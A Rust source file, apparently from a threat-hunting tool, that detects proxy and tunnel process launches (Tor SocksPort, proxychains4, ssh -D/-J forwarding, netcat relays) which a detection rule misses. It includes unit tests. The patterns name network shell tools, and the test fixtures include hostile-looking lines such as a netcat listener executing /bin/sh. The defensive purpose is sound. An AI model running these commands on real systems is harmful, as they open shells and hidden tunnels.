//! Process launches that query 004's own test methodology (its Atomic Red Team tests 1-4)
//! exercises but its lists do not name. Each check is one definition: the row filter that keeps
//! rows for a `--beyond` hunt and the findings it produces both call [`ProcessCheck::test`].

use super::BeyondType;
use crate::data::row_filter::RowFilter;

/// The cells a process check reads, with the program the file name names (worked out once
/// per row: three checks ask for it, on every process row of a `--beyond` hunt).
#[derive(Debug, Clone, Copy, Default)]
pub struct ProcessCells<'a> {
    pub file_name: &'a str,
    pub command_line: &'a str,
    program: &'a str,
}

impl<'a> ProcessCells<'a> {
    pub fn new(file_name: &'a str, command_line: &'a str) -> Self {
        Self {
            file_name,
            command_line,
            program: program(file_name),
        }
    }
}

/// A named beyond-the-rule check on a process launch.
pub struct ProcessCheck {
    pub name: &'static str,
    pub kind: BeyondType,
    /// Why the rule as written misses what the check finds.
    pub why: &'static str,
    pub test: fn(&ProcessCells) -> bool,
}

impl ProcessCheck {
    pub fn holds(&self, cells: &ProcessCells) -> bool {
        (self.test)(cells)
    }
}

/// Every process check, in the order a row's reason names them.
pub const PROCESS_CHECKS: &[ProcessCheck] = &[
    ProcessCheck {
        name: "tor-socksport",
        kind: BeyondType::ProxyToolLaunch,
        why: "the command line sets Tor's SocksPort (Atomic test 1: tor.exe from a temp folder \
              with --SocksPort); the rule knows Tor only by the file name tor.exe, so a renamed \
              or Linux `tor` binary passes",
        test: sets_socks_port,
    },
    ProcessCheck {
        name: "proxychains-variant",
        kind: BeyondType::ProxyToolLaunch,
        why: "proxychains4 / proxychains-ng (Atomic test 2); the rule's `has \"proxychains\"` \
              needs the whole term, which `proxychains4` is not",
        test: is_proxychains_variant,
    },
    ProcessCheck {
        name: "ssh-forward-variant",
        kind: BeyondType::SshMultiHopProxy,
        why: "ssh dynamic forwarding, jump host or tunnel written as -D1080, in a flag bundle \
              (-fND 1080), as the last word (-J), or as -oProxyCommand=/-oProxyJump= (Atomic \
              test 3); the rule's `has \"-D \"` / `\"-J \"` need the flag alone and a space after it",
        test: is_ssh_forward_variant,
    },
    ProcessCheck {
        name: "netcat-relay",
        kind: BeyondType::ProxyToolLaunch,
        why: "ncat / nc listening (-l) and relaying to a command (-c / -e / --sh-exec) (Atomic \
              test 4: a SOCKS relay chain of netcats); the rule names no netcat",
        test: is_netcat_relay,
    },
];

/// The process checks that hold on a row, of one kind.
pub fn matching<'c>(
    cells: &'c ProcessCells<'c>,
    kind: BeyondType,
) -> impl Iterator<Item = &'static ProcessCheck> + 'c {
    PROCESS_CHECKS
        .iter()
        .filter(move |c| c.kind == kind && c.holds(cells))
}

/// The process row filter of a `--beyond` hunt: the rule's own filter, or any process check.
pub fn beyond_process_filter(exact: RowFilter) -> RowFilter {
    let names: Vec<&str> = PROCESS_CHECKS.iter().map(|c| c.name).collect();
    let identity = format!("{} + beyond: {}", exact.identity, names.join(", "));
    exact.or(
        identity,
        ["FileName", "ProcessCommandLine"],
        |[file, cmd]| {
            let cells = ProcessCells::new(file.unwrap_or(""), cmd.unwrap_or(""));
            PROCESS_CHECKS.iter().any(|c| c.holds(&cells))
        },
    )
}

/// The command line's words (split on white space; quotes kept, as Defender records them).
fn words(command_line: &str) -> impl Iterator<Item = &str> {
    command_line.split_ascii_whitespace()
}

/// A file name without its folder, quotes and a trailing `.exe` (any case); compared with
/// [`is`], never lower-cased into a new string: the checks run on every process row of a
/// `--beyond` hunt.
fn program(file_name: &str) -> &str {
    // After the last separator (ASCII, so the cut is a character boundary), without quotes.
    let mut base = memchr::memrchr2(b'\\', b'/', file_name.as_bytes())
        .map_or(file_name, |i| &file_name[i + 1..]);
    while let Some(inner) = base.strip_prefix('"') {
        base = inner;
    }
    while let Some(inner) = base.strip_suffix('"') {
        base = inner;
    }
    match base.len().checked_sub(4) {
        Some(cut) if base.is_char_boundary(cut) && base[cut..].eq_ignore_ascii_case(".exe") => {
            &base[..cut]
        }
        _ => base,
    }
}

/// Whether a program name is one of `names` (lower case), ignoring ASCII case.
fn is(name: &str, names: &[&str]) -> bool {
    names.iter().any(|n| name.eq_ignore_ascii_case(n))
}

/// The program a command line starts (its first word), as [`program`] gives it.
fn first_program(command_line: &str) -> &str {
    let first = if let Some(rest) = command_line.trim_start().strip_prefix('"') {
        rest.split('"').next().unwrap_or("")
    } else {
        words(command_line).next().unwrap_or("")
    };
    program(first)
}

/// Whether `haystack` holds `socksport`, ignoring ASCII case, without copying: found from its
/// `k`, far rarer in command lines than its `s`.
fn mentions_socks_port(haystack: &str) -> bool {
    const NEEDLE: &[u8] = b"socksport";
    const ANCHOR: usize = 3;
    let h = haystack.as_bytes();
    let mut at = ANCHOR;
    while at < h.len() {
        let Some(i) = memchr::memchr2(b'k', b'K', &h[at..]) else {
            return false;
        };
        let start = at + i - ANCHOR;
        if h.len() - start >= NEEDLE.len()
            && h[start..start + NEEDLE.len()].eq_ignore_ascii_case(NEEDLE)
        {
            return true;
        }
        at += i + 1;
    }
    false
}

fn sets_socks_port(cells: &ProcessCells) -> bool {
    // Nearly every row stops here: no `socksport` anywhere on the line.
    if !mentions_socks_port(cells.command_line) {
        return false;
    }
    let mut prev_is_tor = is(cells.program, &["tor"]);
    words(cells.command_line).any(|w| {
        let hit = w.eq_ignore_ascii_case("--socksport")
            || w.get(..12)
                .is_some_and(|p| p.eq_ignore_ascii_case("--socksport="))
            // torrc options on tor's own command line may be written without dashes.
            || (prev_is_tor && w.eq_ignore_ascii_case("socksport"));
        prev_is_tor |= is(program(w), &["tor"]);
        hit
    })
}

fn is_proxychains_name(name: &str) -> bool {
    let Some(rest) = name
        .get(..11)
        .filter(|p| p.eq_ignore_ascii_case("proxychains"))
        .map(|_| &name[11..])
    else {
        return false;
    };
    rest.eq_ignore_ascii_case("-ng")
        || (!rest.is_empty() && rest.bytes().all(|b| b.is_ascii_digit()))
}

fn is_proxychains_variant(cells: &ProcessCells) -> bool {
    is_proxychains_name(cells.program)
        || (!starts_with_file_name(cells) && is_proxychains_name(first_program(cells.command_line)))
}

/// Whether the command line's first word is the file name itself (as in most rows), so that its
/// program is the one already looked at.
fn starts_with_file_name(cells: &ProcessCells) -> bool {
    let (file, cmd) = (cells.file_name, cells.command_line);
    !file.is_empty()
        && cmd.starts_with(file)
        && cmd
            .as_bytes()
            .get(file.len())
            .is_none_or(u8::is_ascii_whitespace)
        && !file.starts_with('"')
        && !file.bytes().any(|b| b.is_ascii_whitespace())
}

/// ssh's options that take a value (from ssh(1)); any other letter is a flag of its own.
const SSH_VALUE_OPTIONS: &[u8] = b"BbcDEeFIiJLlmOopQRSWw";

/// ssh programs: OpenSSH, PuTTY's plink, and autossh (which passes its options to ssh).
const SSH_PROGRAMS: &[&str] = &["ssh", "plink", "autossh"];

fn is_ssh_forward_variant(cells: &ProcessCells) -> bool {
    if !is(cells.program, SSH_PROGRAMS) {
        return false;
    }
    let words: Vec<&str> = words(cells.command_line).collect();
    let mut i = 0;
    while i < words.len() {
        let w = words[i];
        i += 1;
        let Some(bundle) = w.strip_prefix('-') else {
            continue;
        };
        if bundle.starts_with('-') || bundle.is_empty() {
            continue;
        }
        let bytes = bundle.as_bytes();
        for (k, &letter) in bytes.iter().enumerate() {
            if !SSH_VALUE_OPTIONS.contains(&letter) {
                continue;
            }
            let joined = &bundle[k + 1..];
            let value = if joined.is_empty() {
                let v = words.get(i).copied().unwrap_or("");
                i += 1;
                v
            } else {
                joined
            };
            match letter {
                b'D' | b'J' | b'w' => return true,
                b'o' => {
                    let option = value.trim_matches(['"', '\'']).to_ascii_lowercase();
                    let key = option.split(['=', ' ']).next().unwrap_or("");
                    if matches!(key, "proxycommand" | "proxyjump" | "dynamicforward") {
                        return true;
                    }
                }
                _ => {}
            }
            break;
        }
    }
    false
}

const NETCAT_PROGRAMS: &[&str] = &["nc", "ncat", "netcat"];

fn is_netcat_relay(cells: &ProcessCells) -> bool {
    if !is(cells.program, NETCAT_PROGRAMS) {
        return false;
    }
    let (mut listens, mut relays) = (false, false);
    for w in words(cells.command_line) {
        let lower = w.to_ascii_lowercase();
        if let Some(long) = lower.strip_prefix("--") {
            let name = long.split('=').next().unwrap_or("");
            listens |= name == "listen";
            relays |= matches!(name, "sh-exec" | "exec" | "lua-exec");
        } else if let Some(bundle) = w.strip_prefix('-') {
            // Short flags, bundled (`-lvp`); stop at the first one that takes a value.
            for letter in bundle.bytes() {
                match letter {
                    b'l' => listens = true,
                    b'c' | b'e' => {
                        relays = true;
                        break;
                    }
                    b'p' | b's' | b'w' | b'i' | b'x' | b'm' => break,
                    _ => {}
                }
            }
        }
    }
    listens && relays
}

#[cfg(test)]
mod tests {
    use super::*;

    fn holds(name: &str, file: &str, cmd: &str) -> bool {
        let check = PROCESS_CHECKS.iter().find(|c| c.name == name).unwrap();
        check.holds(&ProcessCells::new(file, cmd))
    }

    #[test]
    fn tor_socksport_cases() {
        let cases = [
            (
                r"C:\Users\x\AppData\Local\Temp\tortest\tor\svc.exe",
                "svc.exe --SocksPort 9050",
                true,
            ),
            ("tor", "tor --socksport 9050 --DataDirectory /tmp/t", true),
            ("tor", "tor SocksPort 9050", true),
            ("tor.exe", "tor.exe --SOCKSPORT=9150", true),
            // Near misses: not an option, or a torrc word outside tor's command line.
            ("notepad.exe", "notepad.exe socksport.txt", false),
            ("curl", "curl --socks5 127.0.0.1:9050 x", false),
            ("python", "python socksport 9050", false),
            ("tor", "tor --ControlPort 9051", false),
        ];
        for (file, cmd, want) in cases {
            assert_eq!(holds("tor-socksport", file, cmd), want, "{file} {cmd}");
        }
    }

    #[test]
    fn proxychains_variant_cases() {
        let cases = [
            (
                "proxychains4",
                "proxychains4 -f /tmp/test_proxychains.conf curl x",
                true,
            ),
            ("proxychains-ng", "proxychains-ng curl x", true),
            ("bash", "proxychains4 -q nmap 10.0.0.1", true),
            ("/usr/bin/proxychains4", "", true),
            // The first word read even where it starts like the file name.
            ("", " proxychains4 curl x", true),
            ("bash", "bash.proxychains4 x", false),
            ("bash", "bashx proxychains4", false),
            ("ba", "ba\tproxychains4", false),
            ("b", "bproxychains4 x", false),
            ("\"bash", "\"bash\" x", false),
            ("pro", "proxychains4 x", true),
            ("x y", "x y", false),
            // Near misses: the rule's own name, other tools, and words that only start alike.
            ("proxychains", "proxychains curl x", false),
            ("proxychainsx", "proxychainsx", false),
            ("bash", "echo proxychains4", false),
            ("proxychains4.conf", "", false),
        ];
        for (file, cmd, want) in cases {
            assert_eq!(
                holds("proxychains-variant", file, cmd),
                want,
                "{file} {cmd}"
            );
        }
    }

    #[test]
    fn ssh_forward_variant_cases() {
        let cases = [
            ("ssh", "ssh -D1080 user@bastion", true),
            ("ssh.exe", "ssh.exe -fND 1080 user@bastion", true),
            ("ssh", "ssh -NT -J", true),
            ("ssh", "ssh -Jjump@a user@b", true),
            ("ssh", "ssh -oProxyCommand=\"ssh -W %h:%p jump\" host", true),
            ("ssh", "ssh -oProxyJump=jump host", true),
            ("autossh", "autossh -M 0 -D 1080 host", true),
            ("plink.exe", "plink.exe -D8080 host", true),
            ("ssh", "ssh -w0:0 host", true),
            // Near misses: -D as another option's value, local forwards, another program.
            ("ssh", "ssh -p 22 -i key host", false),
            ("ssh", "ssh -L 8080:localhost:80 host", false),
            ("ssh", "ssh -l D host", false),
            ("ssh", "ssh -oServerAliveInterval=30 host", false),
            ("scp", "scp -D1080 a b", false),
            ("ssh", "ssh --D1080 host", false),
        ];
        for (file, cmd, want) in cases {
            assert_eq!(
                holds("ssh-forward-variant", file, cmd),
                want,
                "{file} {cmd}"
            );
        }
    }

    #[test]
    fn netcat_relay_cases() {
        let cases = [
            (
                "ncat.exe",
                "ncat.exe -l 18080 -c \"ncat 127.0.0.1 18081\"",
                true,
            ),
            ("nc", "nc -lk -p 18081 -e /bin/sh", true),
            (
                "ncat",
                "ncat --listen 18080 --sh-exec \"ncat host 18081\"",
                true,
            ),
            ("ncat", "ncat -lvc \"ncat host 1\" 18080", true),
            // Near misses: listening only, relaying without listening, another program.
            ("ncat", "ncat -l 18080", false),
            ("nc", "nc -c /bin/sh host 80", false),
            ("socat", "socat -l -c x", false),
            ("nc", "nc -p 1234 -l", false),
        ];
        for (file, cmd, want) in cases {
            assert_eq!(holds("netcat-relay", file, cmd), want, "{file} {cmd}");
        }
    }
}
